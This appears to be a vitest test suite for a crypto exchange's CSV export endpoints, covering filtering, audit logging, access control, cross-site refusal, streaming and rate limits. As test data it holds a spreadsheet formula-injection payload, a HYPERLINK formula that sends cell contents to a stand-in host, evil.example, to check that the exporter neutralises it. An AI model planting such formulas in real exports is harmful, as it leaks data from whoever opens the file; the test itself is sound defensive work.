import { randomUUID } from 'node:crypto';
import { connect } from 'node:net';
import { and, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  ADMIN_ORDER_EXPORT_COLUMNS,
  AUDIT_EXPORT_COLUMNS,
  EXPORT_MSG,
  EXPORT_PATHS,
  ORDER_HISTORY_EXPORT_COLUMNS,
  ORDER_HISTORY_EXPORT_HEADERS,
  USER_EXPORT_COLUMNS,
} from '#shared/contracts/exports.js';
import { ADMIN_ORDER_SORTS, type TAdminOrder } from '#shared/contracts/orders.js';
import { auditLog } from '#server/db/schema/app.js';
import { users } from '#server/db/schema/auth.js';
import { orders } from '#server/db/schema/orders.js';
import { RATE_LIMITS } from '#server/plugins/rate-limit.js';
import { csvObjects } from '#test/helpers/csv.js';
import type { TFakePriceServer } from '#test/helpers/fake-price-server.js';
import { createOrderTestApp, createTestApp, SUPER_ADMIN, TEST_ORIGIN, type TTestApp } from '#test/helpers/test-app.js';
import { exportAdminOrders } from './service.js';
import { approvalBody } from '#test/helpers/orders.js';

const BTC_ADDRESS = 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4';
/** What a staff member types as a cancel reason, and a spreadsheet would run as a formula. */
const FORMULA_REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const DECIMAL = /^\d+\.\d+$/;

type TPlaced = { id: number; quote: Record<string, string> };

/** A row of the customer's file keyed by column name instead of its title. */
function byColumn(row: Record<string, string>): Record<string, string> {
  return Object.fromEntries(ORDER_HISTORY_EXPORT_COLUMNS.map((column) => [column, row[ORDER_HISTORY_EXPORT_HEADERS[column]] ?? '']));
}

describe('CSV exports', () => {
  let t: TTestApp;
  let fake: TFakePriceServer;
  let methodId: number;
  let admin: string;
  const staff: Record<'manager' | 'support' | 'compliance', string> = { manager: '', support: '', compliance: '' };
  let ama: Awaited<ReturnType<TTestApp['signUp']>>;
  let kofi: Awaited<ReturnType<TTestApp['signUp']>>;
  const placed: Record<'awaiting' | 'paid' | 'cancelled' | 'kofi', TPlaced> = {} as never;

  const get = (url: string, cookie?: string) => t.request({ method: 'GET', url, ...(cookie ? { cookie } : {}) });
  /** Exports are POST since issue 26: the cross-site check applies to them. */
  const download = (url: string, cookie?: string) => t.request({ method: 'POST', url, ...(cookie ? { cookie } : {}) });

  async function place(cookie: string, amountFiat: string, fiatCurrency: 'GHS' | 'USD', paid: boolean): Promise<TPlaced> {
    const quote = await t.request({
      method: 'POST',
      url: '/api/quotes',
      cookie,
      payload: { coinSymbol: 'btc', side: 'buy', fiatCurrency, amountFiat },
    });
    expect(quote.statusCode, quote.body).toBe(201);
    const created = await t.request({
      method: 'POST',
      url: '/api/orders',
      cookie,
      payload: { type: 'buy', quoteId: quote.json().id, walletAddress: BTC_ADDRESS, paymentMethodId: methodId },
    });
    expect(created.statusCode, created.body).toBe(201);
    const id = created.json().order.id as number;
    if (paid) {
      const payment = await t.request({
        method: 'POST',
        url: `/api/orders/${id}/payment`,
        cookie,
        payload: { paymentTxId: `MOMO-${randomUUID()}` },
      });
      expect(payment.statusCode, payment.body).toBe(200);
    }
    return { id, quote: quote.json() };
  }

  beforeAll(async () => {
    ({ t, fake, methodId } = await createOrderTestApp(BTC_ADDRESS));
    admin = await t.loginCookie(SUPER_ADMIN.email, SUPER_ADMIN.password, 'admin');
    for (const role of ['manager', 'support', 'compliance'] as const) staff[role] = (await t.createStaff(role)).cookie;
    ama = await t.signUp({ fullName: 'Ama Serwaa' });
    kofi = await t.signUp({ fullName: 'Kofi Boateng' });
    await t.database.db.update(users).set({ kycStatus: 'verified', tier: 1 }).where(eq(users.id, ama.id));
    placed.awaiting = await place(ama.cookie, '100', 'GHS', false);
    placed.paid = await place(ama.cookie, '5', 'USD', true);
    placed.cancelled = await place(ama.cookie, '7', 'USD', true);
    placed.kofi = await place(kofi.cookie, '5', 'USD', true);
    const cancelled = await t.request({
      method: 'POST',
      url: `/api/admin/orders/${placed.cancelled.id}/cancel`,
      cookie: admin,
      payload: { reason: FORMULA_REASON },
    });
    expect(cancelled.statusCode, cancelled.body).toBe(200);
  });
  afterAll(async () => {
    await t.close();
    await fake.close();
  });

  async function createdAtOf(id: number): Promise<Date> {
    const [row] = await t.database.db.select({ createdAt: orders.createdAt }).from(orders).where(eq(orders.id, id));
    return row!.createdAt;
  }

  async function adminOrder(id: number): Promise<TAdminOrder> {
    return (await get(`/api/admin/orders/${id}`, admin)).json().order;
  }

  describe('Order Management', () => {
    it('answers a dated CSV attachment with the documented header and one row per matching order', async () => {
      const response = await download(`${EXPORT_PATHS.adminOrders}?status=pending`, staff.support);
      expect(response.statusCode, response.body).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toMatch(/^attachment; filename="cedicrypto-orders-\d{4}-\d{2}-\d{2}\.csv"$/);
      expect(response.headers['cache-control']).toBe('private, no-store');
      const { header, rows } = csvObjects(response.body);
      expect(header).toEqual([...ADMIN_ORDER_EXPORT_COLUMNS]);
      // 'pending' is the submitted orders: Ama's paid one and Kofi's, newest first.
      expect(rows.map((row) => Number(row.orderId))).toEqual([placed.kofi.id, placed.paid.id]);
    });

    it('writes the amounts exactly as stored (plain decimals, GHS and USD) and who the customer is', async () => {
      const { rows } = csvObjects((await download(`${EXPORT_PATHS.adminOrders}?q=${encodeURIComponent(ama.email)}`, admin)).body);
      expect(rows.map((row) => Number(row.orderId))).toEqual([placed.cancelled.id, placed.paid.id, placed.awaiting.id]);
      for (const row of rows) {
        const order = await adminOrder(Number(row.orderId));
        expect(row).toMatchObject({
          createdAt: order.createdAt,
          customerName: 'Ama Serwaa',
          customerEmail: ama.email,
          type: 'buy',
          status: order.status,
          coin: 'BTC',
          amountCrypto: order.amountCrypto,
          fiatCurrency: order.fiatCurrency,
          amountFiat: order.amountFiat,
          amountGhs: order.amountGhs,
          amountUsd: order.amountUsd,
          unitPriceUsd: order.unitPriceUsd,
          ghsRate: order.ghsRate,
          paymentMethod: 'MTN MoMo',
          paymentReference: order.paymentReference,
          paymentTxId: order.paymentTxId ?? '',
          submittedAt: order.submittedAt ?? '',
          decidedAt: order.decidedAt ?? '',
        });
        for (const column of ['amountCrypto', 'amountFiat', 'amountGhs', 'amountUsd', 'unitPriceUsd', 'unitPriceGhs', 'ghsRate'])
          expect(row[column], column).toMatch(DECIMAL);
      }
      const awaiting = rows.find((row) => Number(row.orderId) === placed.awaiting.id)!;
      // The GHS order: what was asked, and the price per coin in cedis exactly as its quote showed it.
      expect(awaiting).toMatchObject({ fiatCurrency: 'GHS', amountFiat: '100.00', amountGhs: '100.00' });
      expect(awaiting.unitPriceGhs).toBe(placed.awaiting.quote.unitPriceFiat);
      expect(awaiting.amountUsd).toBe(placed.awaiting.quote.amountUsd);
      expect(awaiting.amountCrypto).toBe(placed.awaiting.quote.amountCrypto);
      const paid = rows.find((row) => Number(row.orderId) === placed.paid.id)!;
      expect(paid).toMatchObject({ fiatCurrency: 'USD', amountFiat: '5.00', amountUsd: '5.00', amountGhs: placed.paid.quote.amountGhs });
    });

    it('neutralises a formula in a cell: the cancel reason is text behind a single quote', async () => {
      const response = await download(`${EXPORT_PATHS.adminOrders}?status=cancelled`, staff.manager);
      // Quoted per RFC 4180 (it holds quotes and a comma), after the single quote.
      expect(response.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`);
      const { rows } = csvObjects(response.body);
      expect(rows.map((row) => [Number(row.orderId), row.cancelReason])).toEqual([[placed.cancelled.id, `'${FORMULA_REASON}`]]);
    });

    it('keeps the order of the list for every sort, ties and missing payment times included', async () => {
      for (const sort of ADMIN_ORDER_SORTS) {
        for (const dir of ['asc', 'desc'] as const) {
          const list = (await get(`/api/admin/orders?sort=${sort}&dir=${dir}&pageSize=100`, admin)).json().orders as TAdminOrder[];
          const { rows } = csvObjects((await download(`${EXPORT_PATHS.adminOrders}?sort=${sort}&dir=${dir}`, admin)).body);
          expect(
            rows.map((row) => Number(row.orderId)),
            `${sort} ${dir}`,
          ).toEqual(list.map((order) => order.id));
        }
      }
    });

    it('filters by dates like the list (whole UTC days, both ends included)', async () => {
      const createdAt = await createdAtOf(placed.awaiting.id);
      await t.database.db
        .update(orders)
        .set({ createdAt: new Date('2025-01-10T23:59:59.999Z') })
        .where(eq(orders.id, placed.awaiting.id));
      try {
        const ids = async (query: string) =>
          csvObjects((await download(`${EXPORT_PATHS.adminOrders}?${query}`, admin)).body).rows.map((row) => Number(row.orderId));
        expect(await ids('from=2025-01-10&to=2025-01-10')).toEqual([placed.awaiting.id]);
        expect(await ids('to=2025-01-09')).toEqual([]);
        expect(await ids('from=2025-01-11&to=2025-01-11')).toEqual([]);
      } finally {
        await t.database.db.update(orders).set({ createdAt }).where(eq(orders.id, placed.awaiting.id));
      }
    });

    it('writes who exported which filter to the audit log', async () => {
      const support = await t.createStaff('support');
      const response = await download(`${EXPORT_PATHS.adminOrders}?status=pending&q=Serwaa&sort=amountFiat&dir=asc`, support.cookie);
      expect(response.statusCode).toBe(200);
      const entries = await t.database.db
        .select()
        .from(auditLog)
        .where(and(eq(auditLog.action, 'order.export'), eq(auditLog.actorId, support.id)));
      expect(entries).toHaveLength(1);
      expect(entries[0]).toMatchObject({
        actorEmail: support.email,
        targetType: 'order',
        targetId: null,
        after: { filter: { q: 'Serwaa', status: 'pending', sort: 'amountFiat', dir: 'asc' } },
      });
    });

    it('says who approved an order and when, its fee and payout reference (issue 27 point 7), formula-safe', async () => {
      const yaa = await t.signUp({ fullName: 'Yaa Asantewaa' });
      const approvedOrder = await place(yaa.cookie, '5', 'USD', true);
      const pendingOrder = await place(yaa.cookie, '6', 'USD', true);
      const manager = await t.createStaff('manager');
      // A name a spreadsheet would run as a formula comes out as text.
      await t.database.db.update(users).set({ fullName: '@Efua Mensah' }).where(eq(users.id, manager.id));
      const payoutReference = randomUUID().replaceAll('-', '').repeat(2);
      const claimed = await t.request({ method: 'POST', url: `/api/admin/orders/${approvedOrder.id}/claim`, cookie: manager.cookie });
      expect(claimed.statusCode, claimed.body).toBe(200);
      const approved = await t.request({
        method: 'POST',
        url: `/api/admin/orders/${approvedOrder.id}/approve`,
        cookie: manager.cookie,
        payload: await approvalBody(t, approvedOrder.id, { payoutReference }),
      });
      expect(approved.statusCode, approved.body).toBe(200);
      const [decided] = await t.database.db.select().from(orders).where(eq(orders.id, approvedOrder.id));

      const { rows } = csvObjects((await download(`${EXPORT_PATHS.adminOrders}?q=${encodeURIComponent(yaa.email)}`, staff.support)).body);
      const byId = new Map(rows.map((row) => [Number(row.orderId), row]));
      expect(byId.get(approvedOrder.id)).toMatchObject({
        status: 'completed',
        approvedBy: "'@Efua Mensah",
        approvedAt: decided!.decidedAt!.toISOString(),
        payoutReference,
        feePercentage: approvedOrder.quote.feePercentage,
        feeUsd: approvedOrder.quote.feeUsd,
        // The quote of a USD order showed its fee in dollars; the cedis are computed the same way, in cedis.
        feeGhs: expect.stringMatching(DECIMAL),
      });
      expect(byId.get(approvedOrder.id)!.approvedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
      for (const column of ['feePercentage', 'feeUsd', 'feeGhs']) expect(byId.get(approvedOrder.id)![column], column).toMatch(DECIMAL);
      // Not approved (yet): no approver, no time; the fee is the quote's all the same.
      expect(byId.get(pendingOrder.id)).toMatchObject({
        approvedBy: '',
        approvedAt: '',
        payoutReference: '',
        feeUsd: pendingOrder.quote.feeUsd,
      });
      // A cancellation names no approver.
      const cancelled = csvObjects((await download(`${EXPORT_PATHS.adminOrders}?status=cancelled`, admin)).body).rows;
      expect(cancelled.map((row) => [row.approvedBy, row.approvedAt])).toEqual([['', '']]);
    });

    it('writes the fee in cedis as the quote of a cedi order showed it', async () => {
      const { rows } = csvObjects((await download(`${EXPORT_PATHS.adminOrders}?q=${encodeURIComponent(ama.email)}`, admin)).body);
      const awaiting = rows.find((row) => Number(row.orderId) === placed.awaiting.id)!;
      expect(awaiting).toMatchObject({
        feePercentage: placed.awaiting.quote.feePercentage,
        feeUsd: placed.awaiting.quote.feeUsd,
        feeGhs: placed.awaiting.quote.feeFiat,
        // Issue 28 point 6: the fee in the order's own currency too (here cedis).
        fee: placed.awaiting.quote.feeFiat,
      });
      // A dollar order's fee in its currency is the quote's dollars.
      const paid = rows.find((row) => Number(row.orderId) === placed.paid.id)!;
      expect(paid).toMatchObject({ fiatCurrency: 'USD', fee: placed.paid.quote.feeFiat, feeUsd: placed.paid.quote.feeUsd });
      expect(paid.feeGhs).toMatch(DECIMAL);
    });

    it('takes the list filter without paging, and refuses anything else', async () => {
      for (const query of ['page=2', 'pageSize=5', 'status=unknown', 'from=2025-02-30', 'role=super_admin']) {
        const response = await download(`${EXPORT_PATHS.adminOrders}?${query}`, admin);
        expect(response.statusCode, query).toBe(400);
        expect(response.json().error.code).toBe('VALIDATION');
      }
    });
  });

  describe("a customer's order history", () => {
    it('holds their own orders only, without anyone else or staff columns', async () => {
      const response = await download(EXPORT_PATHS.orderHistory, ama.cookie);
      expect(response.statusCode, response.body).toBe(200);
      expect(response.headers['content-disposition']).toMatch(/^attachment; filename="cedicrypto-order-history-\d{4}-\d{2}-\d{2}\.csv"$/);
      const { header, rows: titled } = csvObjects(response.body);
      // Issue 26 point 16: the screen's words and UTC named, not the API's codes and bare times.
      expect(header).toEqual(ORDER_HISTORY_EXPORT_COLUMNS.map((column) => ORDER_HISTORY_EXPORT_HEADERS[column]));
      expect(header).toContain('Created (UTC, Ghana time)');
      expect(header).not.toContain('customerEmail');
      const rows = titled.map(byColumn);
      expect(rows.map((row) => Number(row.orderId))).toEqual([placed.cancelled.id, placed.paid.id, placed.awaiting.id]);
      const paid = rows.find((row) => Number(row.orderId) === placed.paid.id)!;
      const order = await adminOrder(placed.paid.id);
      expect(paid).toMatchObject({
        amountCrypto: order.amountCrypto,
        amountFiat: '5.00',
        amountUsd: '5.00',
        amountGhs: order.amountGhs,
        type: 'Buy',
        status: 'Pending',
      });
      expect(rows.map((row) => row.status)).toEqual(['Cancelled', 'Pending', 'Awaiting payment']);
      // Issue 28 point 6: the customer's file has the fee of each order, as their quote showed it.
      expect(header).toEqual(expect.arrayContaining(['Fee (%)', 'Fee', 'Fee in GHS']));
      const awaiting = rows.find((row) => Number(row.orderId) === placed.awaiting.id)!;
      expect(awaiting).toMatchObject({
        feePercentage: placed.awaiting.quote.feePercentage,
        fee: placed.awaiting.quote.feeFiat,
        feeGhs: placed.awaiting.quote.feeFiat,
      });
      expect(paid).toMatchObject({ fee: placed.paid.quote.feeFiat, feePercentage: placed.paid.quote.feePercentage });
      expect(paid.feeGhs).toMatch(DECIMAL);
      expect(Number(paid.feeGhs)).toBeGreaterThan(Number(paid.fee));
      expect(paid.createdAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
      const theirs = csvObjects((await download(EXPORT_PATHS.orderHistory, kofi.cookie)).body).rows.map(byColumn);
      expect(theirs.map((row) => Number(row.orderId))).toEqual([placed.kofi.id]);
    });

    it('covers the chosen days (UTC) and says so when the range is backwards', async () => {
      const createdAt = await createdAtOf(placed.paid.id);
      await t.database.db
        .update(orders)
        .set({ createdAt: new Date('2025-03-01T00:00:00.000Z') })
        .where(eq(orders.id, placed.paid.id));
      try {
        const ids = async (query: string) =>
          csvObjects((await download(`${EXPORT_PATHS.orderHistory}?${query}`, ama.cookie)).body).rows.map((row) =>
            Number(byColumn(row).orderId),
          );
        expect(await ids('from=2025-03-01&to=2025-03-01')).toEqual([placed.paid.id]);
        expect(await ids('from=2025-02-01&to=2025-02-28')).toEqual([]);
        expect(await ids('from=2025-03-02')).toEqual([placed.cancelled.id, placed.awaiting.id]);
        // An empty export is the header alone.
        const empty = csvObjects((await download(`${EXPORT_PATHS.orderHistory}?to=2024-12-31`, ama.cookie)).body);
        expect(empty).toEqual({ header: ORDER_HISTORY_EXPORT_COLUMNS.map((column) => ORDER_HISTORY_EXPORT_HEADERS[column]), rows: [] });
      } finally {
        await t.database.db.update(orders).set({ createdAt }).where(eq(orders.id, placed.paid.id));
      }
      const backwards = await download(`${EXPORT_PATHS.orderHistory}?from=2025-03-02&to=2025-03-01`, ama.cookie);
      expect(backwards.statusCode).toBe(400);
      expect(backwards.json().error).toMatchObject({
        code: 'VALIDATION',
        message: EXPORT_MSG.rangeOrder,
        fields: { to: EXPORT_MSG.rangeOrder },
      });
    });
  });

  describe('User Management', () => {
    it('exports customers as filtered (never staff), a formula-looking name neutralised, and audits it', async () => {
      await t.database.db.update(users).set({ fullName: '@SUM(1+1)*cmd' }).where(eq(users.id, kofi.id));
      try {
        const response = await download(`${EXPORT_PATHS.users}?sort=fullName&dir=asc`, staff.compliance);
        expect(response.statusCode, response.body).toBe(200);
        expect(response.headers['content-disposition']).toMatch(/^attachment; filename="cedicrypto-users-\d{4}-\d{2}-\d{2}\.csv"$/);
        const { header, rows } = csvObjects(response.body);
        expect(header).toEqual([...USER_EXPORT_COLUMNS]);
        expect(rows.map((row) => row.email)).not.toContain(SUPER_ADMIN.email);
        expect(rows.some((row) => row.email?.endsWith('@staff.example.com'))).toBe(false);
        expect(rows.find((row) => row.userId === kofi.id)?.fullName).toBe("'@SUM(1+1)*cmd");
        const list = (await get('/api/admin/users?sort=fullName&dir=asc', admin)).json();
        expect(rows.map((row) => row.userId).slice(0, list.users.length)).toEqual(list.users.map((u: { id: string }) => u.id));

        const verified = csvObjects((await download(`${EXPORT_PATHS.users}?kyc=verified&q=${encodeURIComponent(ama.email)}`, admin)).body);
        expect(verified.rows).toEqual([
          {
            userId: ama.id,
            username: ama.username,
            fullName: 'Ama Serwaa',
            email: ama.email,
            phone: '',
            kycStatus: 'verified',
            accountStatus: 'active',
            tradingVolumeUsd: expect.stringMatching(DECIMAL) as string,
            registeredAt: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/) as string,
          },
        ]);
        // Ama's volume: her orders that were not cancelled (5 USD paid and the GHS 100 one).
        const volume = (await get(`/api/admin/users/${ama.id}`, admin)).json().user.tradingVolumeUsd;
        expect(verified.rows[0]?.tradingVolumeUsd).toBe(volume);
        const [entry] = await t.database.db
          .select()
          .from(auditLog)
          .where(eq(auditLog.action, 'user.export'))
          .orderBy(sql`${auditLog.id} desc`)
          .limit(1);
        expect(entry).toMatchObject({
          actorEmail: SUPER_ADMIN.email,
          targetType: 'user',
          after: { filter: { q: ama.email, kyc: 'verified', account: 'all', sort: 'createdAt', dir: 'desc' } },
        });
      } finally {
        await t.database.db.update(users).set({ fullName: 'Kofi Boateng' }).where(eq(users.id, kofi.id));
      }
    });
  });

  describe('the audit log', () => {
    it('exports the entries as filtered, newest first, its own export entry first, JSON as text', async () => {
      const all = await download(EXPORT_PATHS.audit, admin);
      expect(all.statusCode, all.body).toBe(200);
      expect(all.headers['content-disposition']).toMatch(/^attachment; filename="cedicrypto-audit-log-\d{4}-\d{2}-\d{2}\.csv"$/);
      const { header, rows } = csvObjects(all.body);
      expect(header).toEqual([...AUDIT_EXPORT_COLUMNS]);
      expect(rows[0]).toMatchObject({ action: 'audit.export', actorEmail: SUPER_ADMIN.email, targetType: 'audit_log', targetId: '' });
      expect(JSON.parse(rows[0]!.after!)).toEqual({ filter: {} });
      const ids = rows.map((row) => Number(row.entryId));
      expect(ids).toEqual([...ids].sort((a, b) => b - a));
      // Names as the Audit Log shows them, not only ids.
      expect(rows[0]?.actorName).toEqual(expect.any(String));
      expect(rows[0]?.actorName).not.toBe('');
      expect(rows[0]?.targetKind).toEqual(expect.any(String));

      const orderEntries = csvObjects((await download(`${EXPORT_PATHS.audit}?action=order.`, admin)).body).rows;
      expect(orderEntries.length).toBeGreaterThan(0);
      expect(orderEntries.every((row) => row.action?.startsWith('order.'))).toBe(true);
      // The JSON of an entry (quotes, commas) reads back as it was stored.
      const filters = orderEntries.filter((row) => row.action === 'order.export').map((row) => JSON.parse(row.after!) as unknown);
      expect(filters).toContainEqual({ filter: { q: 'Serwaa', status: 'pending', sort: 'amountFiat', dir: 'asc' } });
      // The Audit Log page shows the export entries like any other.
      for (const action of ['order.export', 'user.export', 'audit.export']) {
        const page = await get(`/api/admin/audit?action=${action}`, admin);
        expect(page.statusCode, page.body).toBe(200);
        expect(page.json().entries.length, action).toBeGreaterThan(0);
      }
    });
  });

  describe('access', () => {
    it('refuses anonymous callers, customers on staff exports, staff without the list, and staff on the customer export', async () => {
      const cases: [string, string | undefined, number][] = [
        [EXPORT_PATHS.adminOrders, undefined, 401],
        [EXPORT_PATHS.users, undefined, 401],
        [EXPORT_PATHS.audit, undefined, 401],
        [EXPORT_PATHS.orderHistory, undefined, 401],
        [EXPORT_PATHS.adminOrders, ama.cookie, 403],
        [EXPORT_PATHS.users, ama.cookie, 403],
        [EXPORT_PATHS.audit, ama.cookie, 403],
        // Compliance reads Order Management and exports it since issue 18 (docs/decisions/017); not the audit log.
        [EXPORT_PATHS.audit, staff.compliance, 403],
        [EXPORT_PATHS.users, staff.support, 403],
        [EXPORT_PATHS.audit, staff.manager, 403],
        [EXPORT_PATHS.orderHistory, admin, 403],
      ];
      for (const [url, cookie, status] of cases) {
        const response = await download(url, cookie);
        expect(response.statusCode, `${url} ${cookie === undefined ? 'anonymous' : ''}`).toBe(status);
        expect(response.headers['content-type']).toMatch(/json/);
        expect(response.headers['content-disposition']).toBeUndefined();
      }
    });

    it('starts no export from a link or a form on another site (issue 26): GET is not a route, a cross-site POST is refused', async () => {
      for (const url of Object.values(EXPORT_PATHS)) {
        const cookie = url === EXPORT_PATHS.orderHistory ? ama.cookie : admin;
        // No GET route (`/api/admin/orders/export` then reads as an order id, refused).
        const linked = await get(url, cookie);
        expect([400, 404], `${url} ${linked.body}`).toContain(linked.statusCode);
        expect(linked.headers['content-disposition']).toBeUndefined();
        const crossSite = await t.request({ method: 'POST', url, cookie, headers: { origin: 'https://evil.example' } });
        expect(crossSite.statusCode, url).toBe(403);
        expect(crossSite.json().error.code).toBe('CROSS_SITE');
      }
    });

    it('has no HEAD route (it would read the whole export to throw it away)', async () => {
      for (const url of Object.values(EXPORT_PATHS)) {
        const response = await t.request({ method: 'HEAD', url, cookie: url === EXPORT_PATHS.orderHistory ? ama.cookie : admin });
        expect([400, 404], url).toContain(response.statusCode);
        expect(response.headers['content-disposition']).toBeUndefined();
      }
    });
  });

  describe('large exports', () => {
    const BULK = 5_000;
    let yaw: Awaited<ReturnType<TTestApp['signUp']>>;

    beforeAll(async () => {
      yaw = await t.signUp({ fullName: 'Yaw Bulkexport' });
      const base = Date.parse('2026-02-01T12:00:00.000Z');
      // Three orders a second (ties on the time), every seventh paid (the rest have no payment time).
      await t.database.db.execute(sql`
        insert into quotes (id, user_id, coin_symbol, side, fiat_currency, amount_fiat, amount_usd, amount_crypto,
                            unit_price_usd, base_usd, ghs_rate, fee_percentage, fee_usd, expires_at)
        select 'bulk-' || g, ${yaw.id}, 'btc', 'buy', 'GHS', ((10 + g % 90)::text || '.25')::numeric, '6.06', '0.00010000',
               '60606.06000000', '59128.84000000', '16.500000', '2.50', '0.15', now()
        from generate_series(1, ${BULK}) as g`);
      await t.database.db.execute(sql`
        insert into orders (user_id, quote_id, type, coin_symbol, amount_crypto, amount_fiat, fiat_currency, amount_usd,
                            amount_ghs, unit_price_usd, ghs_rate, payment_method, payment_reference, status, submitted_at, created_at)
        select ${yaw.id}, 'bulk-' || g, 'buy', 'btc', '0.00010000', ((10 + g % 90)::text || '.25')::numeric, 'GHS', '6.06',
               ((10 + g % 90)::text || '.25')::numeric, '60606.06000000', '16.500000', 'MTN MoMo', 'BULK' || g,
               case when g % 7 = 0 then 'payment_submitted' else 'awaiting_payment' end,
               case when g % 7 = 0 then to_timestamp(${base / 1000} + g % 50) end,
               to_timestamp(${base / 1000} + g / 3)
        from generate_series(1, ${BULK}) as g`);
    });

    it('sends the file in chunks as it reads it (chunked transfer, one chunk per batch)', async () => {
      const address = await t.app.listen({ port: 0, host: '127.0.0.1' });
      const { hostname, port } = new URL(address);
      const raw = await new Promise<Buffer>((resolve, reject) => {
        const socket = connect(Number(port), hostname, () => {
          socket.write(
            [
              `POST ${EXPORT_PATHS.adminOrders}?q=${encodeURIComponent(yaw.email)}&sort=submittedAt&dir=asc HTTP/1.1`,
              'Content-Length: 0',
              `Host: ${hostname}:${port}`,
              `Origin: ${TEST_ORIGIN}`,
              `Cookie: ${admin}`,
              'Connection: close',
              '',
              '',
            ].join('\r\n'),
          );
        });
        const received: Buffer[] = [];
        socket.on('data', (data: Buffer) => received.push(data));
        socket.on('end', () => resolve(Buffer.concat(received)));
        socket.on('error', reject);
      });
      const headEnd = raw.indexOf('\r\n\r\n');
      const head = raw.subarray(0, headEnd).toString('latin1');
      expect(head).toMatch(/^HTTP\/1\.1 200/);
      expect(head).toMatch(/\r\ntransfer-encoding: chunked(\r\n|$)/i);
      expect(head).not.toMatch(/\r\ncontent-length:/i);
      // Decode the chunked body, counting its chunks.
      const chunks: Buffer[] = [];
      let at = headEnd + 4;
      for (;;) {
        const lineEnd = raw.indexOf('\r\n', at);
        const size = Number.parseInt(raw.subarray(at, lineEnd).toString('latin1'), 16);
        if (size === 0) break;
        chunks.push(raw.subarray(lineEnd + 2, lineEnd + 2 + size));
        at = lineEnd + 2 + size + 2;
      }
      expect(chunks.length).toBeGreaterThanOrEqual(BULK / 500);
      const { rows } = csvObjects(Buffer.concat(chunks).toString('utf8'));
      expect(rows).toHaveLength(BULK);
      // Across batch boundaries the order is the list's: compare with its pages.
      const listed: number[] = [];
      for (let page = 1; listed.length < BULK; page += 1) {
        const answer = await get(
          `/api/admin/orders?q=${encodeURIComponent(yaw.email)}&sort=submittedAt&dir=asc&pageSize=100&page=${page}`,
          admin,
        );
        listed.push(...(answer.json().orders as TAdminOrder[]).map((order) => order.id));
      }
      expect(rows.map((row) => Number(row.orderId))).toEqual(listed);
      expect(new Set(listed).size).toBe(BULK);
    });

    it('reads the database batch by batch: rows added after the first batch went out are in the file', async () => {
      const db = t.database.db;
      const [actor] = await db.select().from(users).where(eq(users.email, SUPER_ADMIN.email));
      const file = await exportAdminOrders(
        { db },
        { actor: { id: actor!.id, email: actor!.email, role: 'super_admin', user: actor! }, ip: '127.0.0.1' },
        { q: yaw.email, status: 'all', sort: 'createdAt', dir: 'asc' },
      );
      const batches = file.batches[Symbol.asyncIterator]();
      const first = await batches.next();
      expect(first.done).toBe(false);
      expect(first.value).toHaveLength(500);
      // Placed now, it sorts last: only a reader that has not read everything yet can see it.
      await db.execute(sql`
        insert into quotes (id, user_id, coin_symbol, side, fiat_currency, amount_fiat, amount_usd, amount_crypto,
                            unit_price_usd, base_usd, ghs_rate, fee_percentage, fee_usd, expires_at)
        values ('bulk-late', ${yaw.id}, 'btc', 'buy', 'GHS', '12.00', '0.73', '0.00001200', '60606.06000000', '59128.84000000',
                '16.500000', '2.50', '0.02', now())`);
      await db.execute(sql`
        insert into orders (user_id, quote_id, type, coin_symbol, amount_crypto, amount_fiat, fiat_currency, amount_usd,
                            amount_ghs, unit_price_usd, ghs_rate, payment_method, payment_reference, status)
        values (${yaw.id}, 'bulk-late', 'buy', 'btc', '0.00001200', '12.00', 'GHS', '0.73', '12.00', '60606.06000000',
                '16.500000', 'MTN MoMo', 'BULKLATE', 'awaiting_payment')`);
      let count = first.value!.length;
      let last: readonly (string | null | undefined)[] | undefined;
      for (let next = await batches.next(); !next.done; next = await batches.next()) {
        count += next.value.length;
        last = next.value.at(-1);
      }
      expect(count).toBe(BULK + 1);
      expect(last?.[ADMIN_ORDER_EXPORT_COLUMNS.indexOf('paymentReference')]).toBe('BULKLATE');
    });
  });
});

describe('CSV export request limit', () => {
  let t: TTestApp;
  beforeAll(async () => {
    t = await createTestApp({ RATE_LIMIT_SCALE: '1' });
  });
  afterAll(() => t.close());

  it('answers 429 with Retry-After once a person has used their exports', async () => {
    const customer = await t.signUp();
    const { max, windowSeconds } = RATE_LIMITS.exportsPerUser;
    for (let i = 0; i < max; i += 1) {
      expect((await t.request({ method: 'POST', url: EXPORT_PATHS.orderHistory, cookie: customer.cookie })).statusCode).toBe(200);
    }
    const refused = await t.request({ method: 'POST', url: EXPORT_PATHS.orderHistory, cookie: customer.cookie });
    expect(refused.statusCode).toBe(429);
    expect(refused.json().error.code).toBe('RATE_LIMITED');
    expect(Number(refused.headers['retry-after'])).toBeLessThanOrEqual(windowSeconds);
    // Another person has their own allowance.
    const other = await t.signUp();
    expect((await t.request({ method: 'POST', url: EXPORT_PATHS.orderHistory, cookie: other.cookie })).statusCode).toBe(200);
  });
});
